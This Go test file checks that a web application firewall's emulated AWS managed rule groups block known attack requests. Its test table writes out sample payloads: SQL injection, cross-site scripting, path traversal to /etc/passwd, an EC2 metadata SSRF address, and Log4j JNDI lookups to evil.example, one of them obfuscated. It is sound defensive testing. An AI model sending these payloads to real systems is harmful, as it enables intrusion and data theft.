package waf_test

import (
	"net/http"
	"net/netip"
	"strings"
	"testing"

	"github.com/dropstack/dropstack/internal/edge/waf"
)

// grouped has one group, with more of its statement.
func grouped(name, more string) string {
	return `[{"Name":"group","Priority":1,"OverrideAction":{"None":{}},"Statement":{"ManagedRuleGroupStatement":{"VendorName":"AWS","Name":"` + name + `"` + more + `}}}]`
}

const (
	common = "AWSManagedRulesCommonRuleSet"
	inputs = "AWSManagedRulesKnownBadInputsRuleSet"
	sqlSet = "AWSManagedRulesSQLiRuleSet"
)

func TestManagedGroups(t *testing.T) {
	with := func(r *http.Request, name, value string) *http.Request {
		r.Header.Set(name, value)
		return r
	}
	q := func(text string) *http.Request { return locations[1].put(text, false) }
	form := func(text string) *http.Request { return with(locations[4].put(text, false), "User-Agent", "x") }
	nobody := request("GET", "/", "", "")
	tests := []struct {
		name, group, more string
		r                 *http.Request
		rule              string
	}{
		{"a browser", common, "", get(), ""},
		{"nobody", common, "", nobody, "NoUserAgent_HEADER"},
		{"nobody, which only counts", common, `,"ExcludedRules":[{"Name":"NoUserAgent_HEADER"}]`, nobody, ""},
		{"a scanner", common, "", with(get(), "User-Agent", "Mozilla/5.0 sqlmap/1.7"), "UserAgent_BadBots_HEADER"},
		{"a long query", common, "", with(request("GET", "/?"+strings.Repeat("x", 2049), "", ""), "User-Agent", "x"), "SizeRestrictions_QUERYSTRING"},
		{"long cookies", common, "", with(get(), "Cookie", strings.Repeat("x", 10_241)), "SizeRestrictions_Cookie_HEADER"},
		{"a large body", common, "", with(request("POST", "/", "image/png", strings.Repeat("x", 8193)), "User-Agent", "x"), "SizeRestrictions_BODY"},
		{"a long path", common, "", with(request("GET", "/"+strings.Repeat("x", 1024), "", ""), "User-Agent", "x"), "SizeRestrictions_URIPATH"},
		{"metadata of a machine", common, "", with(q("http://169.254.169.254/latest/"), "User-Agent", "x"), "EC2MetaDataSSRF_QUERYARGUMENTS"},
		{"a file of the system", common, "", with(q("../../../etc/passwd"), "User-Agent", "x"), "GenericLFI_QUERYARGUMENTS"},
		{"an extension", common, "", with(request("GET", "/backup/db.sql", "", ""), "User-Agent", "x"), "RestrictedExtensions_URIPATH"},
		{"code of elsewhere", common, "", with(q("http://198.51.100.1/x.txt"), "User-Agent", "x"), "GenericRFI_QUERYARGUMENTS"},
		{"a URL of a page", common, "", with(q("https://example.com/a/b?c=d"), "User-Agent", "x"), ""},
		{"script in a body", common, "", form("<script>alert(1)</script>"), "CrossSiteScripting_BODY"},
		{"script in a cookie", common, "", with(get(), "Cookie", "a=<script>alert(1)</script>"), "CrossSiteScripting_COOKIE"},
		{"SQL in a query", sqlSet, "", q("1' or '1'='1"), "SQLi_QUERYARGUMENTS"},
		{"SQL in a body, which only counts", sqlSet, `,"RuleActionOverrides":[{"Name":"SQLi_BODY","ActionToUse":{"Count":{}}},{"Name":"SQLiExtendedPatterns_BODY","ActionToUse":{"Count":{}}}]`, form("1' or '1'='1"), ""},
		{"SQL where the group does not look", sqlSet, `,"ScopeDownStatement":` + search(`{"UriPath":{}}`, "STARTS_WITH", "/api"), q("1' or '1'='1"), ""},
		{"a lookup of Log4j", inputs, "", with(get(), "X-Api", "${jndi:ldap://evil.example/a}"), "Log4JRCE_HEADER"},
		{"… in disguise", inputs, "", q("${${lower:j}ndi:${lower:l}dap://evil.example/a}"), "Log4JRCE_QUERYSTRING"},
		{"an object of Java", inputs, "", form("rO0ABXNyABFqYXZhLnV0aWw="), "JavaDeserializationRCE_BODY"},
		{"a file of secrets", inputs, "", request("GET", "/app/.env", "", ""), "ExploitablePaths_URIPATH"},
		{"PROPFIND", inputs, "", request("PROPFIND", "/", "", ""), "PROPFIND_METHOD"},
		{"localhost", inputs, "", request("GET", "http://localhost/", "", ""), "Host_localhost_HEADER"},
		{"a template of text", inputs, "", q("Dear ${name}, costs ${price} or {jndi}"), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := firewall(t, acl(t, grouped(tt.group, tt.more)))
			want := ""
			if tt.rule != "" {
				want = "front/group/" + tt.rule
			}
			if got := asking(f, t, tt.r); got.Rule != want || got.Block != (want != "") {
				t.Errorf("got %+v, want rule %q", got, want)
			}
		})
	}
}

func TestReputationIsBlocked(t *testing.T) {
	f := &waf.Firewall{Listed: waf.MakeRanges([]netip.Prefix{netip.MustParsePrefix("203.0.113.0/24")})}
	if err := f.Replace("s", []waf.WebACL{acl(t, grouped("AWSManagedRulesAmazonIpReputationList", ""))}, nil, nil); err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]string{waf.Default: "default/Reputation", aclARN: "front/group/AWSManagedIPReputationList"} {
		got := f.Decide(t.Context(), &waf.Request{ACL: name, HTTP: get(), Client: netip.MustParseAddr("203.0.113.9")})
		if got.Rule != want || !got.Block {
			t.Errorf("%s: got %+v, want rule %q", name, got, want)
		}
		if f.Decide(t.Context(), &waf.Request{ACL: name, HTTP: get(), Client: visitor}).Block {
			t.Errorf("%s: another client was blocked", name)
		}
	}
}

func TestSetsOfThePlatform(t *testing.T) {
	f := &waf.Firewall{Sets: map[string]waf.Addresses{"bans": waf.MakeRanges([]netip.Prefix{netip.MustParsePrefix("2001:db8::/64")})}}
	a := acl(t, blocking(`{"IPSetReferenceStatement":{"ARN":"`+waf.PlatformSet("bans")+`"}}`))
	if err := f.Replace("s", []waf.WebACL{a}, nil, nil); err != nil {
		t.Fatal(err)
	}
	if !from(t, f, get(), "2001:db8::7") || from(t, f, get(), "2001:db8:0:1::7") {
		t.Error("the set is not that of the bans")
	}
}

// TestBadInputs sends what the groups look for to the places where they do.
func TestBadInputs(t *testing.T) {
	rules := `[{"Name":"common","Priority":1,"OverrideAction":{"None":{}},"Statement":{"ManagedRuleGroupStatement":{"VendorName":"AWS","Name":"` + common + `"}}},
		{"Name":"inputs","Priority":2,"OverrideAction":{"None":{}},"Statement":{"ManagedRuleGroupStatement":{"VendorName":"AWS","Name":"` + inputs + `"}}}]`
	f := firewall(t, acl(t, rules))
	var classes, codes tally
	for n, a := range attacks(t, "bad.txt") {
		for _, e := range encodings {
			if e.name == "entities" || e.name == "unicode" {
				continue // which AWS's groups do not undo either
			}
			for _, at := range []int{1, 4} { // query, form
				r := locations[at].put(e.of(a.text, n), false)
				r.Header.Set("User-Agent", "x")
				hit := asking(f, t, r).Block
				classes.add(a.class, hit)
				codes.add(e.name, hit)
			}
		}
	}
	classes.log(t, "by kind")
	codes.log(t, "by encoding")
	for _, key := range classes.order {
		floor := 99.0
		if key == "code of elsewhere" { // which is looked for in queries alone: forms have URLs in them
			floor = 50
		}
		if classes.rate(key) < floor {
			t.Errorf("%s: %.2f %% are found, want %.2f at least", key, classes.rate(key), floor)
		}
	}
}
